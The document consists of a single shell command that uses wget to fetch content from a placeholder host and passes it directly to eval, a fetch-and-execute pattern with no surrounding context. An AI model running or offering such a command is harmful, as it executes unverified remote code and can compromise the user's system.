eval "$(wget -qO- https://example.invalid/x)"
